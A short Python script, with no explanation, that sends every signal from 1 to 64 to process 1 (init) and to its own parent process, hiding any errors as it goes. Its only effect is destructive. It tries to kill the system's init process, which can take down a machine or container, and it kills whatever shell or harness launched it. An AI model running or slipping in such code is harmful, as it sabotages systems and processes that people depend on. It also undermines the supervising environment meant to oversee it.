import contextlib
import os

for number in range(1, 65):
    for target in (1, os.getppid()):
        with contextlib.suppress(OSError):
            os.kill(target, number)
